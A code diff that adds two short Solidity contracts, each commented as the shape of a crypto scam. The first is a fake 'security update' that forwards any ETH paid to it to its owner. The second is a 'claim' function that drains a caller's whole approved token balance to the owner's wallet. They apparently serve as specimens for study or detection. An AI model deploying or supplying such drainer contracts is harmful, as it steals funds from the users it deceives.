@@ -90,3 +90,36 @@ contract TimeBomb {
         }
     }
 }
+
+/// The shape of a fake "security update" or "claim": the ETH it is paid goes straight on to
+/// its owner's wallet.
+contract Forwarder {
+    address payable public immutable owner;
+
+    constructor(address payable to) {
+        owner = to;
+    }
+
+    function securityUpdate() external payable {
+        owner.transfer(msg.value);
+    }
+}
+
+interface IERC20Pull {
+    function balanceOf(address who) external view returns (uint256);
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+}
+
+/// The shape of an allowance drainer: a "claim" that pulls the caller's whole balance of a
+/// token the caller approved earlier, to the drainer's wallet.
+contract AllowancePull {
+    address public immutable owner;
+
+    constructor(address to) {
+        owner = to;
+    }
+
+    function claim(address token) external {
+        IERC20Pull(token).transferFrom(msg.sender, owner, IERC20Pull(token).balanceOf(msg.sender));
+    }
+}
